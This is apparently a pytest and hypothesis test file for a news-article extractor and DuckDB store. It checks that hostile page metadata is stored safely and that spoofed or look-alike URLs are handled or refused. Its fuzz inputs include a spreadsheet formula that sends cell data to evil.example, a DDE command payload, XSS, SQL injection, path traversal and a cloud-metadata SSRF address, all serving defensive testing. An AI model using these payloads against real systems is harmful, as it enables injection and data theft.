"""Whatever a page says of itself: it is read, it is stored under its own address, and nothing in it can do harm.

The whole way: extract, outcome, load into a DuckDB store.
"""

import json
import re
import tempfile
from collections.abc import Callable
from datetime import timedelta
from html import escape
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from articles.errors import BadUrl
from articles.extract import extract
from articles.fingerprint import article_id
from articles.model import Article, Hints, Page
from articles.urls import MAX_LENGTH, normalise, registrable_domain
from tests.builders import NOON, entry
from tests.empty import empty
from tests.unit.warehouse.loads import load
from warehouse.outcomes import Outcome, outcome
from warehouse.store import opened

URL = "https://tagblatt.example/politik/haushalt-17.html"
OTHER = "https://victim.example/2026/03/04/their-story"
PROSE = [
    "The council of Zern agreed on Tuesday to bring the ferries back to the lake after twenty years of talk about it.",
    "Nobody could say where the money would come from, the mayor told a hall full of people who had waited all night.",
    "The first boats are to leave the old pier in spring, when the ice has gone and the gulls have come back again.",
]
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x84\x86-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")
"""What no column may hold: NUL, controls, marks that turn the direction of reading, halves of surrogate pairs."""

ODD = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\u202egnp.exe\u202c",
    "\u2066\u2069\u200b\u200d\ufeff\u00ad",
    "\ud83d",
    "\udc00x\ud83d",
    "\ufffe\uffff\ufff9\U000e0041",
    "e\u0301\u0316" * 40,
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|'/C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${7*7} %s %n [bold]x[/] \\u0000",
    "'; DROP TABLE captures; --",
    "../../../etc/passwd",
    "x" * 30_000,
    "a - " * 9_000,
    " " * 30_000 + "x",
    "Foto: " * 2_000,
    "(Foto) " * 2_000,
    "© 2026 " * 3_000,
    "(" * 9_000,
    "John Smith, " * 3_000,
    "0000-00-00",
    "0001-01-01",
    "-5000-01-01",
    "99999-12-31",
    "2026-02-31",
    "2999-01-01",
    "2026-03-04T25:61:61Z",
    "2026-03-04T10:00:00+99:99",
    "9" * 10_000,
    "2026" + " " * 20_000 + "01",
    "٢٠٢٦-٠٣-٠٤",
    "Feb 31, 2026",
    "1" * 13,
    OTHER,
    "//victim.example/x",
    "javascript:alert(3)",
    "file:///etc/passwd",
    "http://user:secret@169.254.169.254/latest",
    "https://xn--e1awd7f.example/",
    "https://[::1",
    "https://tagblatt.example\\@victim.example/",
    "https://tagblatt.example/" + "a" * 60_000,
    "https://tagblatt.example/a\x00b\u202e\ud800.jpg",
]
WORDS = (
    st.sampled_from(ODD)
    | st.text(st.characters(), max_size=40)
    | st.sampled_from(ODD).map(lambda odd: f"Jane {odd} Doe")
)
VALUES = st.recursive(
    WORDS | st.none() | st.booleans() | st.integers() | st.floats(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["@type", "@id", "name", "url", "@value", "givenName", "familyName"]), inner, max_size=3
        )
    ),
    max_leaves=6,
)
METAS = [
    "og:title", "og:description", "og:url", "og:image", "og:site_name", "og:locale", "og:type", "author",
    "article:author", "article:published_time", "article:modified_time", "article:section", "article:tag", "keywords",
    "news_keywords", "description", "language", "content-language", "twitter:title", "article:content_tier",
]  # fmt: skip
LINKED = [
    "@type", "@id", "headline", "name", "description", "author", "creator", "datePublished", "dateModified", "dateCreated",
    "articleSection", "keywords", "image", "inLanguage", "publisher", "mainEntityOfPage", "url", "isAccessibleForFree",
    "articleBody", "@graph",
]  # fmt: skip
FORMS = {
    "title": "<title>%s</title>",
    "h1": "<h1>%s</h1>",
    "canonical": '<link rel="canonical" href="%s">',
    "lang": 'lang="%s"',
    "caption": "<span class=caption>%s</span>",
    "credit": "<cite>%s</cite>",
    "alt": 'alt="%s"',
    "src": 'src="%s"',
    "time": '<time pubdate datetime="%s">printed</time>',
    "byline": '<p class="byline">%s</p>',
    "line": "<p>%s</p>",
}
SLOTS = list(FORMS)


def written(value: str, *, charrefs: bool) -> str:
    """A value in markup, as it is or in character references."""
    return "".join(f"&#x{ord(c):X};" for c in value[:2_000]) if charrefs else escape(value)


def markup(metas: dict[str, str], linked: object, slots: dict[str, str], *, charrefs: bool) -> str:
    """An article of plain prose with something in each place that may say something of it."""
    at = {name: form % written(slots[name], charrefs=charrefs) if name in slots else "" for name, form in FORMS.items()}
    said = "".join(
        f'<meta property="{n}" name="{n}" content="{written(v, charrefs=charrefs)}">' for n, v in metas.items()
    )
    script = json.dumps(linked).replace("</", "<\\/")
    prose = "".join(f"<p>{line}</p>" for line in PROSE)
    return (
        f"<html {at['lang']}><head>{at['title']}{said}{at['canonical']}"
        f'<script type="application/ld+json">{script}</script></head><body><article>{at["h1"]}{at["byline"]}{at["time"]}'
        f"<figure><img {at['src']} {at['alt']}><figcaption>{at['caption']}{at['credit']}</figcaption></figure>"
        f"{prose}{at['line']}</article></body></html>"
    )


def result_of(html: str, url: str = URL, hints: Hints = Hints()) -> Outcome:
    """The page's outcome, as a fetch of it gave it."""
    content = html.encode("utf-8", "surrogatepass")
    return outcome(entry(url), extract(Page(url, content, NOON, charset="utf-8", hints=hints)))


def stored(*outcomes: Outcome) -> dict[str, list[dict[str, object]]]:
    """All rows of all tables of a new warehouse with these captures in it."""
    with tempfile.TemporaryDirectory() as folder:
        home = empty(Path(folder))
        load(home, outcomes)
        with opened(home) as store:
            names = [str(row[0]) for row in store.rows("SELECT table_name FROM duckdb_tables()")]
            found: dict[str, list[dict[str, object]]] = {}
            for name in names:
                result = store.connection.execute(f"FROM {name}")
                columns = [column[0] for column in result.description or ()]
                found[name] = [dict(zip(columns, row, strict=True)) for row in result.fetchall()]
            return found


def texts(value: object) -> list[str]:
    """Every string in a row."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for inner in value.values() for text in texts(inner)]
    return [text for inner in value for text in texts(inner)] if isinstance(value, list | tuple) else []


def holds(*outcomes: Outcome) -> dict[str, list[dict[str, object]]]:
    """What must hold of every page, and the rows for more."""
    rows = stored(*outcomes)
    assert all(HARMFUL.search(text) is None for table in rows.values() for text in texts(table))
    labels = [
        {name: value for name, value in row.items() if name != "text"} for table in rows.values() for row in table
    ]
    assert max(map(len, texts(labels))) <= 4_000
    assert len(rows["captures"]) == len(outcomes)
    assert {row["article_id"] for row in rows["article_state"]} <= {
        article_id(done.entry.final_url) for done in outcomes
    }
    for row in rows["article_versions"]:
        for name in ("image_url", "canonical_claim"):
            assert str(row[name] or "https://").startswith(("http://", "https://"))
        assert row["published_at"] is None or row["published_at"] <= NOON + timedelta(days=1)  # type: ignore[operator]
    return rows


@settings(max_examples=20)  # each makes a warehouse of its own
@given(
    st.dictionaries(st.sampled_from(METAS), WORDS, max_size=6),
    st.dictionaries(st.sampled_from(LINKED), VALUES, max_size=6) | VALUES,
    st.dictionaries(st.sampled_from(SLOTS), WORDS, max_size=5),
    st.booleans(),
)
def test_whatever_stands_in_a_page_it_is_one_row_under_its_own_address(
    metas: dict[str, str], linked: object, slots: dict[str, str], charrefs: bool
) -> None:
    holds(result_of(markup(metas, linked, slots, charrefs=charrefs)))


def everywhere(odd: str, **given: object) -> str:
    plain = {"@type": "NewsArticle"} | dict.fromkeys(LINKED[2:-1], odd) | given
    return markup(dict.fromkeys(METAS, odd), plain, dict.fromkeys(SLOTS, odd), charrefs=False)


def test_one_odd_value_in_every_place_at_once() -> None:
    outcomes = [
        result_of(everywhere(odd), f"{URL}?{number}", Hints(source_name=odd, source_language=odd, feed_published=odd))
        for number, odd in enumerate(ODD)
    ]
    assert {done.kind for done in outcomes} == {"article"}
    rows = holds(*outcomes)
    assert {row["article_id"] for row in rows["article_versions"]} == {article_id(done.entry.url) for done in outcomes}
    assert all(line in str(version["text"]) for version in rows["article_versions"] for line in PROSE)


@pytest.mark.parametrize(
    "odd",
    [[], {}, [[]], [None], {"@type": None}, {"name": {"a": 1}}, 1e400, float("nan"), 10**5000 // 7 % 10**4000, True],
)
def test_json_ld_of_any_type_in_every_place_at_once(odd: object) -> None:
    linked = dict.fromkeys(LINKED, odd) | {"@type": ["NewsArticle", odd]}
    assert isinstance(result_of(markup({}, linked, {}, charrefs=False)).result, Article)


def test_a_poisoned_copy_stays_a_row_of_the_site_that_served_it() -> None:
    poisoned = result_of(
        markup(
            {"og:url": OTHER},
            {"@type": "NewsArticle", "@id": OTHER, "url": OTHER, "mainEntityOfPage": OTHER},
            {"canonical": OTHER},
            charrefs=False,
        )
    )
    theirs = Outcome(
        entry(OTHER, digest="sha256:" + "1" * 64),
        "article",
        result=extract(Page(OTHER, markup({}, {}, {"title": "Theirs"}, charrefs=False), NOON)),
    )
    rows = holds(poisoned, theirs)
    alone = holds(theirs)
    state = {row["url"]: row for row in rows["article_state"]}
    assert set(state) == {URL, OTHER}
    assert state[URL]["domain"] == "tagblatt.example"
    (before,) = alone["article_state"]
    # That somebody else prints the same text is counted, and changes nothing else.
    assert state[OTHER] == before | {"cluster_size": 2}
    claims = {row["article_id"]: row["canonical_claim"] for row in rows["article_versions"]}
    assert claims == {article_id(URL): OTHER, article_id(OTHER): None}


PARTS = st.sampled_from([
    "a", "/", "\\", "..", ".", "%2e", "%2F", "%00", "%", "?", "#", "&", "=", "@", ":", ":80", "\t", "\n", "\r", " ", "\x00",
    "\u202e", "\ud800", "é", "例え", "ｅ", "раураl", "ſ", "\u212a", "user:pw@", "[::1]", "0x7f.1", "xn--", "utm_source=x",
])  # fmt: skip


def spelling(url: str) -> str | None:
    """An address's one spelling; None where it is refused, in words that any terminal takes."""
    try:
        return normalise(url)
    except BadUrl as refusal:
        if not str(refusal).isascii():
            raise
        return None


@given(st.lists(PARTS, max_size=12).map("".join))
@example("tagblatt.example\\@victim.example/")
@example("tagblatt.example\t.victim.example/")
def test_an_address_has_one_spelling_without_anything_hidden_or_is_refused(rest: str) -> None:
    clean = spelling(f"https://{rest}")
    if clean is None:
        return
    assert re.fullmatch(r"[!-~]+", clean)
    assert "@" not in clean.split("/")[2]
    assert "#" not in clean
    assert "\\" not in clean
    assert not {".", ".."} & set(clean.partition("?")[0].split("/")[3:])
    assert normalise(clean) == clean
    assert len(clean) <= MAX_LENGTH


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://tagblatt.example/", "https://tаgblatt.example/"),
        ("https://tagblatt.example/", "https://tagblatt.example.victim.example/"),
        ("https://tagblatt.example/", "https://tagblatt-example.example/"),
        ("https://tagblatt.example/", "https://tagblatt.example@victim.example/"),
        ("https://tagblatt.example/", "https://victim.example/tagblatt.example"),
        ("https://a.blogspot.com/", "https://b.blogspot.com/"),
        ("http://127.0.0.1/", "http://127.0.0.2/"),
    ],
)
def test_a_look_alike_is_another_site(one: str, other: str) -> None:
    assert registrable_domain(one) != registrable_domain(other)
    assert normalise(one) != normalise(other)


def nested(count: int) -> str:
    return "https://web.archive.org/web/2020/" * count + "https://tagblatt.example/"


@pytest.mark.parametrize(
    "make",
    [
        pytest.param(lambda: normalise("https://tagblatt.example/" + "a" * 30_000_000), id="long"),
        pytest.param(lambda: normalise(nested(1_000_000)), id="nested"),
        pytest.param(lambda: normalise("https://tagblatt.example/?" + "&utm_source=x" * 3_000_000), id="tracking"),
        pytest.param(lambda: normalise("https://" + "a." * 10_000_000), id="labels"),
        pytest.param(lambda: normalise("https://tagblatt.example:" + "1" * 5_000_000), id="port"),
    ],
)
def test_an_endless_address_is_refused_at_once(make: Callable[[], str]) -> None:
    with pytest.raises(BadUrl, match="characters") as refusal:
        make()
    assert len(str(refusal.value)) < 400
